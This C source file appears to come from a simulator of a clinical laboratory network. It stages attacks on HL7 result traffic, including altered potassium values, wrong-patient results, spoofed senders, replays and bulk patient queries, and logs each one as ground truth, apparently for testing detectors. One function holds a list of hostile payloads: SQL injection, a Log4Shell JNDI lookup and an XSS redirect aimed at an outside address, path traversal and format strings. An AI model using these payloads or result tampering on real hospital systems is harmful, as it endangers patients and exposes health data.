/* What is staged on request. Attacks on results take a sample of a known kind of analyzer through the lab, so that everything else about it is
 * ordinary. */
#include "engine/simulate/lab.h"

#include "wire/mllp_write.h"

#include <stdio.h>
#include <stdlib.h>

#define BULK 40                  /* patients asked for in one go */
#define QUIET (75 * TIME_SECOND) /* no attack before: detectors learn who is who meanwhile */

static const char *const names[ATTACK_COUNT] = {[ATTACK_NONE] = "",
#define ATTACK_NAME(c, kind) [ATTACK_##c] = kind,
                                                SIMULATE_ATTACKS(ATTACK_NAME)
#undef ATTACK_NAME
};

const char *simulate_attack_name(enum simulate_attack kind)
{
    return kind > ATTACK_NONE && kind < ATTACK_COUNT ? names[kind] : "";
}

enum simulate_attack simulate_attack_kind(struct span name)
{
    for (unsigned i = 1; i < ATTACK_COUNT; i++)
        if (span_is(name, names[i]))
            return (enum simulate_attack)i;
    return ATTACK_NONE;
}

/* Potassium, the second test of the basic metabolic panel: small, watched, and deadly when wrong. */
static struct value *target(struct sample *sample)
{
    return &sample->values[1];
}

void attack_shape(struct simulate *s, struct sample *sample)
{
    struct value *v = target(sample);
    switch (sample->attack) {
    case ATTACK_RESULT_ALTERED:
        if (sample->stage == STAGE_RESENT)
            v->number = v->number > 50 ? 42 : 68;
        value_flag(v);
        break;
    case ATTACK_RESULT_WRONG_PATIENT:
        if (sample->stage == STAGE_RESENT)
            sample->patient = &s->patients[((size_t)(sample->patient - s->patients) + 1) % PATIENTS];
        break;
    case ATTACK_RESULT_UNIT_CHANGED: v->unit = v->of->other_unit; break;
    case ATTACK_RESULT_FLAG_MISMATCH:
        v->number = 69;
        v->flags = "N";
        break;
    case ATTACK_RESULT_IMPLAUSIBLE:
        v->number = v->of->absurd;
        value_flag(v);
        break;
    default: break;
    }
}

void attack_reported(struct simulate *s, struct sample *sample, tq_time at, const char *control)
{
    bool second = sample->attack == ATTACK_RESULT_ALTERED || sample->attack == ATTACK_RESULT_WRONG_PATIENT;
    const char *field = "OBX-5";
    switch (sample->attack) {
    case ATTACK_RESULT_WRONG_PATIENT: field = "PID-3"; break;
    case ATTACK_RESULT_UNIT_CHANGED: field = "OBX-6"; break;
    case ATTACK_RESULT_FLAG_MISMATCH: field = "OBX-8"; break;
    case ATTACK_RESULT_ALTERED:
    case ATTACK_RESULT_IMPLAUSIBLE: break;
    case ATTACK_RESULT_MISSING: field = ""; break;
    default: return;
    }
    if (!second || sample->stage == STAGE_RESENT)
        truth_attack(s, sample->attack, at, control, field, target(sample)->of->code, sample, sample->analyzer->host);
}

void attack_shape_forward(struct simulate *s, struct sample *sample)
{
    (void)s;
    if (sample->attack != ATTACK_RESULT_ALTERED_IN_TRANSIT)
        return;
    struct value *v = target(sample);
    v->number = v->number > 50 ? 44 : 63;
    value_flag(v);
}

/* A message kept to be sent again later. */
struct replay {
    struct replay *next;
    char control[CONTROL_TEXT];
    struct sample sample;
    size_t n;
    uint8_t bytes[];
};

static void replay(void *world, tq_time at, void *what)
{
    struct simulate *s = world;
    struct replay *r = what;
    struct conn c = {0};
    conn_open(&s->net, &c, s->middleware, s->lis, PORT_LIS_RESULTS, at, false);
    buf_clear(&s->answer);
    hl7_ack(&s->answer, &s->lis_party, &s->middleware_party, "R01", at, r->control, "AA", NULL);
    truth_attack(s, ATTACK_RESULT_REPLAYED, c.clock, r->control, "", NULL, &r->sample, s->middleware);
    mllp_exchange(s, &c, 0, span_of(r->bytes, r->n), buf_span(&s->answer));
    conn_close(&c, 0);
}

void attack_forwarded(struct simulate *s, const struct sample *sample, struct span message, const char *control, tq_time at)
{
    if (sample->attack == ATTACK_RESULT_ALTERED_IN_TRANSIT)
        truth_attack(s, sample->attack, at, control, "OBX-5", sample->values[1].of->code, sample, s->middleware);
    if (sample->attack != ATTACK_RESULT_REPLAYED)
        return;
    struct replay *r = malloc(sizeof *r + message.n);
    if (r == NULL) {
        s->failed = true;
        return;
    }
    r->sample = *sample;
    r->n = message.n;
    snprintf(r->control, sizeof r->control, "%s", control);
    memcpy(r->bytes, message.p, message.n);
    r->next = s->replays;
    s->replays = r;
    lab_do(s, at + 75 * TIME_SECOND, replay, r);
}

/* A whole message to the LIS from the intruder's machine, on a connection of its own. */
static void intrude(struct simulate *s, enum simulate_attack kind, struct party *as, tq_time at)
{
    struct conn c = {0};
    char control[CONTROL_TEXT];
    struct sample *sample = order_make(s, &s->analyzers[0], at);
    if (sample == NULL)
        return;
    sample->panel = PANEL_BMP;
    sample->measured = at - 20 * TIME_SECOND;
    sample_measure(&s->rng, sample);
    conn_open(&s->net, &c, s->intruder, s->lis, PORT_LIS_RESULTS, at, false);
    buf_clear(&s->message);
    buf_clear(&s->answer);
    hl7_oru_forward(s, &s->message, as, sample, at, control);
    hl7_ack(&s->answer, &s->lis_party, as, "R01", at, control, "AA", NULL);
    truth_attack(s, kind, c.clock, control, "MSH-3", NULL, sample, s->intruder);
    mllp_exchange(s, &c, 0, buf_span(&s->message), buf_span(&s->answer));
    conn_close(&c, 0);
    sample_release(s, sample);
}

/* The lasting connection of an analyzer, open. */
static struct conn *link_of(struct simulate *s, struct analyzer *a, tq_time at)
{
    conn_at(&a->up, at);
    if (!a->up.open)
        conn_open(&s->net, &a->up, a->host, a->upstream, PORT_MIDDLEWARE, a->up.clock, false);
    return &a->up;
}

/* A message whose inside is broken: the frame and MSH are whole, then a patient cut short, bytes that are no segment, and a result without its
 * fields. */
static void send_broken(struct simulate *s, struct analyzer *a, tq_time at)
{
    char control[CONTROL_TEXT];
    struct conn *c = link_of(s, a, at);
    buf_clear(&s->message);
    buf_clear(&s->answer);
    hl7_msh(&s->message, &a->party, &s->middleware_party, "ORU^R01", NULL, c->clock, control);
    buf_add_str(&s->message, "PID|1||MR04\rOB");
    for (unsigned i = 0; i < 60; i++)
        buf_u8(&s->message, (uint8_t)(0x80 + rng_below(&s->rng, 0x7f)));
    buf_add_str(&s->message, "\r|||\rOBX|x|NM\r");
    hl7_ack(&s->answer, &s->middleware_party, &a->party, "R01", c->clock, control, "AE", "segment not known");
    truth_attack(s, ATTACK_MESSAGE_MALFORMED, c->clock, control, "segment 3", NULL, NULL, a->host);
    mllp_exchange(s, c, 0, buf_span(&s->message), buf_span(&s->answer));
}

/* A message whose frame is broken: it stops in the middle of a result and the next frame begins, with a whole message. */
static void send_cut(struct simulate *s, struct analyzer *a, tq_time at)
{
    char control[CONTROL_TEXT];
    struct sample *sample = order_make(s, a, at);
    struct conn *c = link_of(s, a, at);
    if (sample == NULL)
        return;
    sample->panel = PANEL_BMP;
    sample->measured = at - 20 * TIME_SECOND;
    sample_measure(&s->rng, sample);
    buf_clear(&s->message);
    hl7_oru_analyzer(&s->message, a, sample, &s->middleware_party, c->clock, control);
    buf_clear(&s->frame);
    buf_u8(&s->frame, MLLP_START);
    buf_add(&s->frame, s->message.p, s->message.n * 2 / 3);
    truth_attack(s, ATTACK_MESSAGE_MALFORMED, c->clock, control, "frame", NULL, sample, a->host);
    conn_send(c, 0, buf_span(&s->frame), false);
    c->clock += rng_between(&s->rng, 900 * TIME_MS, 2000 * TIME_MS);
    buf_clear(&s->message);
    buf_clear(&s->answer);
    hl7_oru_analyzer(&s->message, a, sample, &s->middleware_party, c->clock, control);
    hl7_ack(&s->answer, &s->middleware_party, &a->party, "R01", c->clock, control, "AA", NULL);
    mllp_exchange(s, c, 0, buf_span(&s->message), buf_span(&s->answer));
    lab_later(s, c->clock + 2 * TIME_SECOND, middleware_forward, sample);
    sample_release(s, sample);
}

/* The first breaks the inside, the next the frame, and so on in turns. */
static void send_malformed(struct simulate *s, tq_time at)
{
    if (s->truth.malformed++ % 2 == 0)
        send_broken(s, &s->analyzers[0], at);
    else
        send_cut(s, &s->analyzers[0], at);
}

/* A message that is well formed, with text that tries what careless receivers fall for. */
static void send_hostile(struct simulate *s, tq_time at)
{
    static const char *const payloads[] = {"'; DROP TABLE results; --", "${jndi:ldap://198.51.100.66:1389/a}",
                                           "<script>document.location='http://198.51.100.66/'</script>", "../../../../etc/passwd", "%n%n%n%s%s%s%x"};
    char control[CONTROL_TEXT];
    struct analyzer *a = &s->analyzers[0];
    struct sample *sample = order_make(s, a, at);
    if (sample == NULL)
        return;
    sample->panel = PANEL_BMP;
    sample->comment = payloads[rng_below(&s->rng, 5)];
    sample->measured = at - 20 * TIME_SECOND;
    sample_measure(&s->rng, sample);
    struct conn *c = link_of(s, a, at);
    buf_clear(&s->message);
    buf_clear(&s->answer);
    hl7_oru_analyzer(&s->message, a, sample, &s->middleware_party, c->clock, control);
    hl7_ack(&s->answer, &s->middleware_party, &a->party, "R01", c->clock, control, "AA", NULL);
    truth_attack(s, ATTACK_MESSAGE_HOSTILE, c->clock, control, "NTE-3", NULL, sample, a->host);
    mllp_exchange(s, c, 0, buf_span(&s->message), buf_span(&s->answer));
    lab_later(s, c->clock + 2 * TIME_SECOND, middleware_forward, sample);
    sample_release(s, sample);
}

/* One patient after another, asked for by a work place. */
static void query_in_bulk(struct simulate *s, tq_time at)
{
    struct conn c = {0};
    struct party as;
    char control[CONTROL_TEXT];
    struct host *from = s->stations[STATIONS - 1];
    party_init(&as, "REPORTS", "OFFICE", "2.5.1", "UNICODE UTF-8", "REP");
    as.control = rng_below(&s->rng, 1000) * 100;
    conn_open(&s->net, &c, from, s->lis, PORT_LIS_RESULTS, at, false);
    for (unsigned i = 0; i < BULK; i++) {
        const struct patient *p = &s->patients[(i * 5) % PATIENTS];
        buf_clear(&s->message);
        buf_clear(&s->answer);
        hl7_people_query(s, &s->message, &as, p, c.clock, control);
        hl7_people_answer(s, &s->answer, &as, p, c.clock, control);
        if (i == 0)
            truth_attack(s, ATTACK_PHI_BULK_QUERY, c.clock, control, "QPD-3", NULL, NULL, from);
        mllp_exchange(s, &c, 0, buf_span(&s->message), buf_span(&s->answer));
        c.clock += rng_between(&s->rng, 10 * TIME_MS, 40 * TIME_MS);
    }
    conn_close(&c, 0);
}

/* Takes a sample with this attack in it through the lab. */
static void send_sample(struct simulate *s, enum simulate_attack kind, tq_time at)
{
    struct sample *sample = order_make(s, &s->analyzers[0], at);
    if (sample == NULL)
        return;
    sample->panel = PANEL_BMP;
    sample->attack = kind;
    middleware_order(s, sample, at);
    lab_later(s, at + 8 * TIME_SECOND, analyzer_report, sample);
    sample_release(s, sample);
}

static void stage(void *world, tq_time at, void *what)
{
    struct simulate *s = world;
    const enum simulate_attack *staged = what;
    enum simulate_attack kind = *staged;
    struct party as;
    switch (kind) {
    case ATTACK_SENDER_UNKNOWN:
        party_init(&as, "LABPRO-X", "BACKROOM", "2.5.1", "UNICODE UTF-8", "X");
        intrude(s, kind, &as, at);
        break;
    case ATTACK_SENDER_SPOOFED:
        as = s->middleware_party;
        as.control += 40000; /* the numbers of somebody who does not know where the true sender is */
        intrude(s, kind, &as, at);
        break;
    case ATTACK_MESSAGE_MALFORMED: send_malformed(s, at); break;
    case ATTACK_MESSAGE_HOSTILE: send_hostile(s, at); break;
    case ATTACK_PHI_BULK_QUERY: query_in_bulk(s, at); break;
    default: send_sample(s, kind, at); break;
    }
}

void attack_free(struct simulate *s)
{
    while (s->replays != NULL) {
        struct replay *r = s->replays;
        s->replays = r->next;
        free(r);
    }
}

void attack_start(struct simulate *s)
{
    unsigned total = 0;
    unsigned k = 0;
    for (unsigned kind = 1; kind < ATTACK_COUNT; kind++)
        total += s->options.attacks[kind];
    /* after a while in which the lab is its ordinary self, and not at the very end */
    int64_t first = s->options.seconds * TIME_SECOND / 3 < QUIET ? QUIET : s->options.seconds * TIME_SECOND / 3;
    int64_t step = total == 0 ? 0 : (s->options.seconds * TIME_SECOND / 2 + 10 * TIME_SECOND) / total;
    for (unsigned kind = 1; kind < ATTACK_COUNT; kind++) {
        s->staged[kind] = (enum simulate_attack)kind;
        for (unsigned i = 0; i < s->options.attacks[kind]; i++)
            lab_do(s, s->start + first + step * k++ + rng_between(&s->rng, 0, step / 2), stage, &s->staged[kind]);
    }
}
